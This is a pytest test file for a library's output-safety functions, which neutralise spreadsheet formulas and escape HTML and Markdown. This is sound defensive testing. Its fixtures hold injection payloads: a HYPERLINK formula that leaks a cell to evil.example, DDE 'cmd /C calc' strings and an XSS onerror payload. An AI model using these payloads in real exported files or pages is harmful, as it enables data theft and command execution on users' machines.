"""Outputs safe to open: formula cells neutralised, Markdown and HTML escaped."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

import orggraph
from orggraph.safety import (
    csv_text,
    escape_html,
    escape_markdown,
    neutralise_cell,
    neutralise_table,
)

from .conftest import HANDOFFS, UNITS, write_org

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Dana Whitfield", "", "'=already", "3", "-2", "+0.5", "-1e-3"])
def test_plain_text_and_numbers_stay(value):
    assert neutralise_cell(value) == value


def test_non_text_values_stay():
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None


def test_neutralise_table_also_covers_column_names():
    df = pd.DataFrame({"=x": ["=1", "a"], "n": [1, 2]})
    out = neutralise_table(df)
    assert list(out.columns) == ["'=x", "n"] and out["'=x"].tolist() == ["'=1", "a"]
    assert df["=x"].tolist() == ["=1", "a"]  # the input is not changed


def test_csv_text_quotes_every_field_and_reads_back():
    rows = [{"name": '=1+2";=1+2', "score": 0.5}, {"name": "Ann, Lee", "score": None}]
    text = csv_text(rows, ["name", "score"])
    assert text.splitlines()[1] == '"\'=1+2"";=1+2","0.5"'
    back = list(csv.reader(io.StringIO(text)))
    assert back == [["name", "score"], ["'=1+2\";=1+2", "0.5"], ["Ann, Lee", ""]]


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://evil.example">x</a>',
        "<img src=x onerror=alert(1)>",
        'Tom & Jerry\'s "team"',
    ],
)
def test_escape_html_leaves_no_markup(text):
    out = escape_html(text)
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    import html

    assert html.unescape(out) == text


def _markdown_html(text):
    """Render with the reference CommonMark implementation when it is installed."""
    md = pytest.importorskip("markdown_it")
    return md.MarkdownIt("gfm-like").render(text)


@pytest.mark.parametrize(
    "name",
    [
        "[click](https://evil.example)",
        "<a href='https://evil.example'>x</a>",
        "https://evil.example",
        "www.evil.example",
        "mail@evil.example",
        "*bold* _em_ `code` ~~gone~~",
        "# Heading",
        "- item",
        "1. item",
        "> quote",
        "a | b",
        "line\nbreak\r\n# heading",
        "&lt;b&gt;",
        "![img](x.png)",
    ],
)
def test_escape_markdown_renders_as_the_same_text(name):
    escaped = escape_markdown(name)
    assert "\n" not in escaped and "\r" not in escaped
    # The rendered paragraph holds exactly the name (line breaks as spaces), and no tag.
    rendered = _markdown_html(escaped).strip()
    assert rendered.startswith("<p>") and rendered.endswith("</p>")
    inner = rendered[3:-4]
    import html

    assert "<" not in inner, rendered
    expected = " ".join(name.replace("\r\n", "\n").split("\n"))
    assert html.unescape(inner) == expected


def test_escape_markdown_in_a_table_cell():
    row = f"| {escape_markdown('a | b')} | 2 |"
    html_out = _markdown_html(f"| name | n |\n|---|---|\n{row}\n")
    assert "<td>a | b</td>" in html_out


def test_escape_markdown_keeps_plain_names_readable():
    for name in ("Dana Whitfield", "Sales (EU)", "R&D"[:1] + "D", "O'Brien"):
        assert escape_markdown(name) == name


def _evil_org(tmp_path):
    units = UNITS.replace("Bob Ray", '"=HYPERLINK(""http://evil.example"",""Bob"")"').replace(
        "Cat Moss", "@SUM(1+1)"
    )
    handoffs = HANDOFFS.replace("customer order", "-2+3+cmd|' /C calc'!A0")
    return orggraph.load(write_org(tmp_path / "evil", units=units, handoffs=handoffs))


def test_convert_to_xlsx_writes_no_formula(tmp_path):
    org = _evil_org(tmp_path)
    out = orggraph.write(org, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert '\'=HYPERLINK("http://evil.example","Bob")' in texts
    assert "'@SUM(1+1)" in texts and "'-2+3+cmd|' /C calc'!A0" in texts
    # The workbook still loads as an organization.
    assert orggraph.load(out).units["id"].tolist() == org.units["id"].tolist()


def test_convert_to_csv_writes_no_formula(tmp_path):
    org = _evil_org(tmp_path)
    out = orggraph.write(org, tmp_path / "csv")
    for f in out.glob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (f.name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    assert "'=HYPERLINK" in (out / "units.csv").read_text(encoding="utf-8")
